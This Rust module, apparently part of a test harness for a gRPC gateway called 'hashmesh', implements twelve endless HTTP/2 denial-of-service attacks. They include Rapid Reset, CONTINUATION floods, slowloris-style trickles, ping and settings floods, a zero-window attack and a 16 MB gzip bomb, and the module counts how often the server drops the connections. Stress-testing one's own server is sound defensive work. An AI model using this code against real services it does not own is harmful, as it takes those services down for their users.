//! The attacks. Each goes on for ever, on one connection after another, at a rate of its own: what is shown is what they do
//! to others at that rate, and that it does not add up.

use std::{
    io,
    io::Write as _,
    sync::atomic::{AtomicU64, Ordering},
    time::Duration,
};

use bytes::Bytes;
use hashmesh::{gateway::v1::ListResultsRequest, limits::MAX_RESULTS_PAGE};
use prost::Message as _;
use tokio::time::{Interval, MissedTickBehavior, interval};

use super::frames::{
    CONTINUATION, DATA, END_HEADERS, HEADERS, INITIAL_WINDOW_SIZE, PING, PREFACE, Peer, RST_STREAM, SETTINGS, frame,
    headers,
};
use crate::support::wire::framed;

const CAPABILITIES: &str = "/hashmesh.gateway.v1.GatewayService/GetCapabilities";
const SUBMIT: &str = "/hashmesh.gateway.v1.GatewayService/SubmitTasks";
const RESULTS: &str = "/hashmesh.gateway.v1.GatewayService/ListResults";

/// Between two bursts of frames, and between two connections.
const PAUSE: Duration = Duration::from_millis(20);
/// Frames of a burst: 5,000 per second.
const BURST: usize = 100;
/// Connections that say nothing, at a time.
const MUTE: usize = 64;
/// Calls whose answers nobody reads, per connection.
pub(super) const UNREAD: usize = 16;

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Attack {
    /// Calls that are taken back in the same breath (CVE-2023-44487).
    RapidReset,
    /// Headers that never end (CVE-2024-27316).
    Continuations,
    /// Frames of data without data (CVE-2019-9518).
    EmptyData,
    /// Connections that say nothing.
    Mute,
    /// A preface, a byte at a time.
    SlowPreface,
    /// Headers, a byte at a time.
    SlowHeaders,
    /// A message, a byte at a time, each in a frame of its own.
    SlowMessage,
    /// Pings, each of which wants an answer (CVE-2019-9512).
    Pings,
    /// Settings, the same (CVE-2019-9515).
    Settings,
    /// Calls with 64 KiB of headers.
    LargeHeaders,
    /// A message of 16 MB that is sent as 16 kB.
    Bomb,
    /// Calls with large answers, and a window that stays closed (CVE-2019-9517).
    NeverReads,
}

/// What attackers did.
#[derive(Debug, Default)]
pub(super) struct Tally {
    bursts: AtomicU64,
    cut_off: AtomicU64,
}

impl Tally {
    pub(super) fn bursts(&self) -> u64 {
        self.bursts.load(Ordering::Relaxed)
    }

    /// Connections that the server ended.
    pub(super) fn cut_off(&self) -> u64 {
        self.cut_off.load(Ordering::Relaxed)
    }
}

/// Whom to attack, and with what.
#[derive(Clone, Debug)]
pub(super) struct Target {
    /// `HOST:PORT`.
    pub(super) address: String,
    /// A submission with a page of outcomes of about 1 MiB.
    pub(super) submission_id: String,
}

impl Attack {
    pub(super) const ALL: [Self; 12] = [
        Self::RapidReset,
        Self::Continuations,
        Self::EmptyData,
        Self::Mute,
        Self::SlowPreface,
        Self::SlowHeaders,
        Self::SlowMessage,
        Self::Pings,
        Self::Settings,
        Self::LargeHeaders,
        Self::Bomb,
        Self::NeverReads,
    ];

    /// True for what ends its connection, within a second: nobody sends that by mistake.
    pub(super) fn is_cut_off(self) -> bool {
        matches!(self, Self::RapidReset | Self::Continuations | Self::EmptyData | Self::LargeHeaders)
    }

    /// Attacks until dropped.
    pub(super) async fn run(self, target: Target, tally: &Tally) {
        let mut pace = interval(PAUSE);
        pace.set_missed_tick_behavior(MissedTickBehavior::Delay);
        loop {
            pace.tick().await;
            if self.connection(&target, tally, &mut pace).await.is_err() {
                tally.cut_off.fetch_add(1, Ordering::Relaxed);
            }
        }
    }

    /// One connection, until the server has enough of it.
    async fn connection(self, target: &Target, tally: &Tally, pace: &mut Interval) -> io::Result<()> {
        let address = &target.address;
        let burst = || tally.bursts.fetch_add(1, Ordering::Relaxed);
        match self {
            Self::Mute => {
                let mut peers = Vec::new();
                for _ in 0..MUTE {
                    peers.push(Peer::mute(address).await?);
                }
                burst();
                for peer in &mut peers {
                    peer.cut_off().await;
                }
                return Ok(());
            }
            Self::SlowPreface => {
                let mut peer = Peer::mute(address).await?;
                for byte in PREFACE.chunks(1) {
                    peer.send(byte).await?;
                    burst();
                    // It would take 24 s.
                    for _ in 0..50 {
                        pace.tick().await;
                    }
                }
                return Ok(());
            }
            Self::NeverReads => {
                let mut peer = Peer::connect(address, &[(INITIAL_WINDOW_SIZE, 0)]).await?;
                let request = ListResultsRequest {
                    submission_id: target.submission_id.clone(),
                    page_size: MAX_RESULTS_PAGE,
                    ..ListResultsRequest::default()
                };
                let message = framed(&request.encode_to_vec());
                for _ in 0..UNREAD {
                    let call = peer.call(RESULTS, &[], &message);
                    peer.send(&call).await?;
                    burst();
                    // 5 per second: it is what stays that is to be shown, and not what making a page costs.
                    for _ in 0..10 {
                        pace.tick().await;
                    }
                }
                peer.cut_off().await;
                return Ok(());
            }
            _ => {}
        }
        let mut peer = Peer::connect(address, &[]).await?;
        let stream = peer.stream();
        let opening = match self {
            Self::Continuations => frame(HEADERS, 0, stream, &headers(SUBMIT, &[])),
            Self::EmptyData | Self::SlowMessage => frame(HEADERS, END_HEADERS, stream, &headers(SUBMIT, &[])),
            Self::SlowHeaders => frame(HEADERS, END_HEADERS, stream, &[0; 1_000])[..9].to_vec(),
            _ => Vec::new(),
        };
        peer.send(&opening).await?;
        // The length of a message of 1 MiB, and then nothing but it.
        let mut message = [&[0][..], &(1_u32 << 20).to_be_bytes()].concat().into_iter().chain(std::iter::repeat(0));
        let header = headers("a", &[("x", &"a".repeat(100))])[2..].to_vec();
        loop {
            let bytes: Vec<u8> = match self {
                Self::RapidReset => (0..BURST)
                    .flat_map(|_| {
                        let stream = peer.stream();
                        let call = frame(HEADERS, END_HEADERS, stream, &headers(CAPABILITIES, &[]));
                        [call, frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes())].concat()
                    })
                    .collect(),
                Self::Continuations => frame(CONTINUATION, 0, stream, &header).repeat(BURST),
                Self::EmptyData => frame(DATA, 0, stream, &[]).repeat(BURST),
                Self::SlowHeaders => vec![0],
                Self::SlowMessage => frame(DATA, 0, stream, &message.by_ref().take(1).collect::<Vec<u8>>()),
                Self::Pings => frame(PING, 0, 0, &[7; 8]).repeat(BURST),
                Self::Settings => frame(SETTINGS, 0, 0, &[]).repeat(BURST),
                Self::LargeHeaders => large_headers(peer.stream()),
                Self::Bomb => peer.call(SUBMIT, &[("grpc-encoding", "gzip")], &bomb()),
                Self::Mute | Self::SlowPreface | Self::NeverReads => unreachable!("see above"),
            };
            peer.send(&bytes).await?;
            burst();
            pace.tick().await;
        }
    }
}

/// Headers of 64 KiB, in order.
fn large_headers(stream: u32) -> Vec<u8> {
    let mut block = headers(CAPABILITIES, &[]);
    while block.len() < 64 * 1024 {
        block.extend_from_slice(&headers("a", &[("x", &"a".repeat(100))])[2..]);
    }
    let parts: Vec<&[u8]> = block.chunks(16 * 1024).collect();
    let last = parts.len() - 1;
    let mut bytes = Vec::new();
    for (place, part) in parts.into_iter().enumerate() {
        let kind = if place == 0 { HEADERS } else { CONTINUATION };
        bytes.extend(frame(kind, if place == last { END_HEADERS } else { 0 }, stream, part));
    }
    bytes
}

/// 16 MB of nothing, compressed, as gRPC frames it.
pub(super) fn bomb() -> Bytes {
    static BOMB: std::sync::OnceLock<Bytes> = std::sync::OnceLock::new();
    let make = || {
        let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
        encoder.write_all(&vec![0; 16_000_000]).expect("it fits");
        let compressed = encoder.finish().expect("it fits");
        assert!(compressed.len() < 16_000, "1,000 to 1: {}", compressed.len());
        let length = u32::try_from(compressed.len()).expect("it fits").to_be_bytes();
        [&[1][..], &length, &compressed].concat().into()
    };
    BOMB.get_or_init(make).clone()
}
